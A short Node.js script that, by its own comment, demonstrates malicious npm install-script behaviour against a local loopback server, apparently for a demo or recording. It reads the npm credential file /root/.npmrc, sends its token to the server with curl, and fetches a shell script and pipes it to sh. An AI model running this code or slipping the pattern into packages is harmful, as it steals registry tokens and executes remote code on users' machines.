// What malicious install scripts do, against the recording's own command server on the loopback.
const { execSync } = require('node:child_process');
const { readFileSync } = require('node:fs');

const token = readFileSync('/root/.npmrc', 'utf8');
execSync('curl -s --data-binary @- http://127.0.0.1:8099/upload', { input: token });
execSync('curl -s http://127.0.0.1:8099/ping.sh | sh');
